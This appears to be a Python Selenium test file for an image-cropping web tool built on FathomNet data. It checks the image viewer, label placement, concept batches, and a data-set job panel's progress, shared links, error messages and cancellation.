def test_an_unknown_uuid_leaves_no_image_under_its_error(page, standin):
    name = "framegrab-5"
    page.open(f"?image={uuid_for(name)}")
    page.wait_for_image(len(boxes(name)))
    page.type_into("#open-input", UNKNOWN + "\n")
    assert "Not found (404 image_not_found, box_not_found)" in page.error("#open-error")
    page.wait(lambda: not page.annotations(), message="the image before to close")
    assert page.js("return window.cropperPage.viewer.world.getItemCount()") == 0
    assert not page.all("#box-list li") and page.el("#boxes-empty").text == "No image open."
    assert page.el("#draw-toggle").get_attribute("disabled") == "true"
    assert page.value("#open-input") == UNKNOWN and "image=" not in page.driver.current_url
    page.driver.back()  # the image before is one step back
    page.wait_for_image(len(boxes(name)))


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["1280x800", "390x844"])
def test_the_concept_fields_show_a_whole_name(page, viewport):
    size(page.driver, viewport)
    longest = max(DATASET_CONCEPTS, key=len)
    page.open("?dataset=")
    for field in ("#concept-name", "#ds-concept"):
        page.type_into(field, longest)
        width = page.js("const f = arguments[0]; return [f.scrollWidth, f.clientWidth];", page.el(field))
        assert width[0] <= width[1], (field, longest, width)  # nothing scrolled out of sight


def test_a_concept_batch_names_each_box_and_its_review_state(page, standin, nginx):
    page.open()
    page.type_into("#concept-name", MULTIPAGE_CONCEPT)
    page.type_into("#concept-limit", "6")
    page.el("#concept-form button").click()
    page.wait(lambda: len(page.all("#batch-grid li")) == 6, message="the concept batch")
    crops = post(nginx, "/cropper-concept/", {"concept": MULTIPAGE_CONCEPT, "limit": 6}).json()["crops"]
    assert {crop["review"] for crop in crops} == {"VERIFIED", "UNVERIFIED"}  # both, so the captions must differ
    for item, crop in zip(page.all("#batch-grid li"), crops):
        review = box(crop["box_uuid"])["reviewState"]
        assert crop["review"] == review
        assert item.text.splitlines() == [
            MULTIPAGE_CONCEPT, f"box {crop['box_uuid'][:8]} · {review.lower()} · {crop['width']}×{crop['height']} px"]
        which = item.find_element(By.CSS_SELECTOR, ".crop-box")
        assert which.get_attribute("title") == f"Annotation {crop['box_uuid']}"


def test_at_phone_width_every_label_is_inside_the_viewer(page, standin):
    size(page.driver, PHONE)
    for name in ("dataset-2", "framegrab-2"):  # several concepts near the right edge; a box on it
        page.open(f"?image={uuid_for(name)}")
        page.wait_for_image(len(boxes(name)))
        viewer = viewer_rect(page)
        for annotation in page.annotations():
            page.js("arguments[0].focus()", annotation)  # its details show too
            for part in (".label", ".details"):
                rect = page.js("return arguments[0].querySelector(arguments[1]).getBoundingClientRect().toJSON()",
                               annotation, part)
                # Within half a pixel: the view is scaled to fit, so edges fall between pixels.
                inside = viewer["left"] - 0.5 <= rect["left"] and rect["right"] <= viewer["right"] + 0.5
                assert inside, (name, part, rect, viewer)


def test_the_page_links_to_the_api_reference(page, nginx):
    page.open()
    link = page.el('.top-links a[href="/docs"]')
    assert link.text == "API reference"
    link.click()
    page.wait(lambda: page.all("[data-section-id]"), message="Redoc's operations")
    assert page.driver.current_url == f"{nginx.url}/docs"
    refused = [e["message"] for e in page.driver.get_log("browser") if "Content Security Policy" in e["message"]]
    assert all("'https://cdn.redoc.ly/" in message for message in refused), refused  # only its footer's logo


# ---------------------------------------------------------------- the data-set panel --


def start_job(service, **body):
    """A data-set job started as a lab tool starts it: its id."""
    answer = requests.post(f"{service.url}/datasets", json=body, timeout=30)
    assert answer.status_code in (200, 202), answer.text
    return answer.json()["id"]


def panel_ready(page):
    """Until the data-set panel shows with its choices (splits, formats) in: a request can be sent."""
    page.wait(lambda: page.el("#dataset-panel").is_displayed() and page.el("#ds-start-button").is_enabled(),
              message="the data-set panel ready")


def shown_files(page):
    return [(a.text, a.get_attribute("href")) for a in page.all("#ds-files a")]


def shown_counts(page):
    return [[cell.text for cell in row.find_elements(By.CSS_SELECTOR, "th, td")] for row in page.all("#ds-counts tr")]


def counts_table(answer):
    """The table of counts a finished job's answer makes: labels down, the splits asked across, totals."""
    splits = [name for name in ("train", "validation", "test") if name in answer["request"]["split"]]
    counts = answer["counts"]
    labels = sorted({label for split in counts.values() for label in split})
    rows = [[label, *[counts.get(split, {}).get(label, 0) for split in splits]] for label in labels]
    rows.append(["All", *[sum(counts.get(split, {}).values()) for split in splits]])
    return [["Label", *splits, "All"], *[[name, *[f"{n:,}" for n in (*values, sum(values))]] for name, *values in rows]]


def test_the_data_set_panel_starts_a_job_follows_its_progress_and_shows_its_files_and_counts(page, standin, nginx,
                                                                                              gunicorn):
    # The request the form below makes; an image of it is held by the stand-in, so the job stays running.
    filters = {"minDepth": 50, "maxDepth": 3500, "includeUnknown": False}
    held = next(b["imageUuid"] for b in find_boxes(concept=DATASET_GENUS, taxaProviderName="fathomnet", **filters)
                if not b["truncated"])
    forget_image(gunicorn.cache_dir, held)  # downloaded again, so held
    standin.set_fault("hold", target="image", uuid=held, times=1)
    page.open()
    page.el("#dataset-toggle").click()
    assert page.el("#dataset-toggle").get_attribute("aria-expanded") == "true"
    assert page.el("#dataset-panel").is_displayed() and "dataset=" in page.driver.current_url
    panel_ready(page)
    # Names are suggested from /concepts as one types.
    page.el("#ds-concept").send_keys("atol")
    suggested = requests.get(f"{nginx.url}/concepts", params={"prefix": "atol", "limit": 20}, timeout=10).json()
    assert len(suggested["concepts"]) == 3
    page.wait(lambda: [o.get_attribute("value") for o in page.all("#ds-concept-names option")] ==
              suggested["concepts"], message="the suggestions")
    page.type_into("#ds-concept", DATASET_GENUS + "\n")
    page.type_into("#ds-concept", "Myctophidae")
    page.el("#ds-add-concept").click()
    assert [chip.text.split("\n")[0] for chip in page.all("#ds-concepts li")] == [DATASET_GENUS, "Myctophidae"]
    page.el("#ds-descendants").click()
    Select(page.el("#ds-label")).select_by_value("asked")
    page.type_into("#ds-min-depth", "50")
    page.type_into("#ds-max-depth", "3500")
    page.el('[data-field="filters.includeUnknown"]').click()
    page.el('[data-field="filters.exclude_truncated"]').click()
    for split, percent in (("train", "70"), ("validation", "20"), ("test", "10")):
        page.type_into(f"#ds-split-{split}", percent)
    page.type_into("#ds-width", "64")
    page.type_into("#ds-height", "64")
    Select(page.el("#ds-format")).select_by_value("png")
    page.el("#ds-start-button").click()

    # Running: the boxes listed, the held image not yet in, as the service says.
    assert standin.wait_until_held(1, timeout=60)
    page.wait(lambda: "dataset=" in page.driver.current_url and page.el("#ds-job-id").text in page.driver.current_url,
              message="the job in the address")
    job_id = page.el("#ds-job-id").text
    running = job_answer(nginx.url, job_id)
    assert running["status"] == "running" and running["progress"]["boxes_total"] > 0, running
    progress = running["progress"]
    page.wait(lambda: page.el("#ds-status").text == "Running: cropping.", message="the running job")
    assert page.el("#ds-progress-text").text == (f"{progress['crops_done']} of {progress['boxes_total']} crops made · "
                                                 f"{progress['images_downloaded']} images downloaded")
    bar = page.el("#ds-progress")
    assert (bar.get_attribute("max"), bar.get_attribute("value")) == (str(progress["boxes_total"]), "0")
    assert page.el("#ds-cancel").is_displayed()
    assert running["request"] == {**running["request"], "concepts": [DATASET_GENUS, "Myctophidae"], "descendants": True,
                                  "label": "asked", "split": {"train": 0.7, "validation": 0.2, "test": 0.1}}
    assert {k: v for k, v in running["request"]["filters"].items() if v not in (None, False)} == {
        "minDepth": 50, "maxDepth": 3500, "exclude_truncated": True}
    assert running["request"]["filters"]["includeUnknown"] is False
    assert {k: running["request"]["crop"][k] for k in ("width", "height", "format")} == {"width": 64, "height": 64,
                                                                                        "format": "png"}

    # Done: the files with their sizes, and the counts per split and label.
    standin.release()
    page.wait(lambda: page.el("#ds-status").text == "Done: the files are ready.", timeout=60, message="the job done")
    answer = job_answer(nginx.url, job_id)
    assert answer["status"] == "done"
    done = answer["progress"]
    failed = f" · {done['crops_failed']} failed (failures.csv says why)" if done["crops_failed"] else ""
    assert page.el("#ds-progress-text").text == (f"{done['crops_done']} of {done['boxes_total']} crops made{failed} · "
                                                 f"{done['images_downloaded']} images downloaded")
    assert page.el("#ds-progress").get_attribute("value") == str(done["boxes_total"])
    assert not page.el("#ds-cancel").is_displayed()
    assert shown_files(page) == [(file["name"], file["url"]) for file in answer["files"]]
    (file,) = answer["files"]
    assert f"{file['size']:,} bytes" in page.el("#ds-files li").text and file["sha256"] in page.el("#ds-files li").text
    assert shown_counts(page) == counts_table(answer)

    # The page's link to the job reopens it, done, elsewhere.
    link = page.el("#ds-link").get_attribute("href")
    assert link == f"{nginx.url}/?dataset={job_id}"
    page.driver.get("about:blank")
    page.driver.get(link)
    page.wait(lambda: page.el("#ds-status").text == "Done: the files are ready.", message="the job reopened")
    assert shown_files(page) == [(file["name"], file["url"]) for file in answer["files"]]


def test_a_shared_job_address_reopens_the_job_as_asked_and_says_when_it_is_gone(page, standin, nginx):
    """A job started by a lab tool, opened from its address: the form shows the request as the service understood
    it (sent again, it is the same job), the job its files (WebDataset shards with their split and samples) and
    counts; removed, the address says so."""
    job_id = start_job(nginx, concepts=["Myctophidae"], descendants=True, label="asked",
                       split={"train": 0.5, "test": 0.5}, filters={"maxDepth": 2000, "includeRejected": True},
                       crop={"width": 48, "height": 48, "fit": "cover", "format": "png"},
                       formats=["imagefolder", "webdataset"])
    answer = finished_job(nginx.url, job_id, seconds=90)
    assert answer["status"] == "done", answer
    page.open(f"?dataset={job_id}")
    page.wait(lambda: page.el("#ds-status").text == "Done: the files are ready.", message="the finished job")
    assert page.el("#dataset-panel").is_displayed()
    assert shown_files(page) == [(file["name"], file["url"]) for file in answer["files"]]
    shards = [(file, item.text) for file, item in zip(answer["files"], page.all("#ds-files li"))
              if file["format"] == "webdataset"]
    assert {file["split"] for file, _ in shards} == {"train", "test"}
    for file, text in shards:
        assert f"{file['name']} webdataset · {file['split']} · {file['samples']:,} samples · " in text
    assert shown_counts(page) == counts_table(answer)
    assert [chip.text.split("\n")[0] for chip in page.all("#ds-concepts li")] == ["Myctophidae"]
    assert [box.is_selected() for box in page.all("#ds-formats input")] == [True, True]
    assert page.el("#ds-descendants").is_selected() and page.value("#ds-label") == "asked"
    assert (page.value("#ds-max-depth"), page.value("#ds-min-depth")) == ("2000", "")
    assert page.el('[data-field="filters.includeRejected"]').is_selected()
    assert [page.value(f"#ds-split-{name}") for name in ("train", "validation", "test")] == ["50", "0", "50"]
    assert [page.value(f"#ds-{name}") for name in ("width", "height", "fit", "format")] == ["48", "48", "cover", "png"]
    page.el("#ds-start-button").click()  # the same request again: the same job
    page.wait(lambda: page.all("#ds-files a") and page.el("#ds-status").text.startswith("Done"), message="the job")
    assert page.el("#ds-job-id").text == job_id and f"dataset={job_id}" in page.driver.current_url
    assert not page.el("#ds-error").is_displayed()

    removed = requests.delete(f"{nginx.url}/datasets/{job_id}", timeout=10)
    assert removed.status_code == 200
    gone = requests.get(f"{nginx.url}/datasets/{job_id}", timeout=10)
    assert gone.status_code == 410
    page.driver.refresh()
    text = page.error("#ds-job-error")
    assert "This data set is gone (410 dataset_gone)" in text and gone.json()["error"]["message"] in text
    assert not page.el("#ds-result").is_displayed() and not page.el("#ds-progress").is_displayed()


def test_a_refused_data_set_request_is_told_where_it_went_wrong(page, standin, nginx):
    page.open("?dataset=")
    panel_ready(page)
    page.type_into("#ds-concept", DATASET_GENUS + "\n")
    page.type_into("#ds-min-depth", "3000")
    page.type_into("#ds-max-depth", "100")
    page.el("#ds-start-button").click()
    text = page.error("#ds-error")
    assert "Check the fields (422 validation_error)" in text and "filters.minDepth: Must not be above maxDepth." in text
    assert page.el("#ds-min-depth").get_attribute("aria-invalid") == "true"
    # A name FathomNet lacks: told by the names, with the service's suggestions to pick from.
    page.type_into("#ds-min-depth", "")
    page.type_into("#ds-concept", "atolla wyvillei\n")
    page.el("#ds-start-button").click()
    text = page.error("#ds-concepts-error")
    refused = requests.post(f"{nginx.url}/datasets", json={"concepts": [DATASET_GENUS, "atolla wyvillei"]}, timeout=10)
    assert refused.status_code == 422
    error = refused.json()["error"]
    assert "Unknown concept (422 unknown_concept)" in text and error["message"] in text
    assert not page.el("#ds-error").is_displayed() and not page.el("#ds-job").is_displayed()
    assert page.el("#ds-concepts li.unknown").text.startswith("atolla wyvillei")
    offered = page.all("#ds-concepts-error .suggestions button")
    assert [button.text for button in offered] == error["details"]["suggestions"]["atolla wyvillei"]
    offered[0].click()
    assert [chip.text.split("\n")[0] for chip in page.all("#ds-concepts li")] == [DATASET_GENUS, "Atolla wyvillei"]
    assert not page.el("#ds-concepts-error").is_displayed() and not page.all("#ds-concepts li.unknown")


def test_a_full_job_queue_is_a_429_with_its_wait_and_a_queued_job_can_be_cancelled(page, standin, tmp_path):
    env = service_env(standin, tmp_path / "cache", DATASET_WORKER="false", DATASET_QUEUE_MAX="1")
    with Gunicorn(env, cwd=tmp_path, workers=1) as alone:  # no worker: a job waits
        waiting = start_job(alone, concepts=[DATASET_GENUS])
        page.open("?dataset=", base=alone.url)
        panel_ready(page)
        page.type_into("#ds-concept", "Myctophidae\n")
        page.el("#ds-start-button").click()
        text = page.error("#ds-error")
        refused = requests.post(f"{alone.url}/datasets", json={"concepts": ["Myctophidae"]}, timeout=10)
        assert refused.status_code == 429
        assert "Too many data-set jobs waiting (429 too_many_jobs)" in text
        assert refused.json()["error"]["message"] in text
        assert f"Wait {refused.headers['Retry-After']} s, then try again." in text
        # The job that waits, from its address: queued, and cancelled from the page.
        page.open(f"?dataset={waiting}", base=alone.url)
        page.wait(lambda: page.el("#ds-status").text == "Queued: waiting for the data-set worker.", message="queued")
        assert page.js("return arguments[0].matches(':indeterminate')", page.el("#ds-progress"))  # how far: unknown
        page.el("#ds-cancel").click()
        page.wait(lambda: page.el("#ds-status").text.startswith("Cancelled"), message="the job cancelled")
        assert requests.get(f"{alone.url}/datasets/{waiting}", timeout=10).status_code == 410


def test_what_is_opened_before_the_page_is_ready_keeps_its_answer(page, standin):
    """The page reads its address once the service's description is in; a uuid pasted before that is what the
    person asked for: its answer (here, not found) stays, not closed by the empty address the page started from."""
    late = page.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": """
        const real = window.fetch;
        window.fetch = (url, init) => String(url).includes("/openapi.json")
            ? new Promise((done) => setTimeout(done, 2000)).then(() => real(url, init)) : real(url, init);"""})
    try:
        page.open()
        page.type_into("#open-input", UNKNOWN + "\n")
        text = page.error("#open-error")
        assert not page.all("#format option")  # before the description came
        page.wait(lambda: page.all("#format option"), message="the description, late")
        time.sleep(0.5)  # the address read, and acted on
        assert page.el("#open-error").is_displayed() and page.el("#open-error").text == text
        assert page.value("#open-input") == UNKNOWN
    finally:
        page.driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": late["identifier"]})
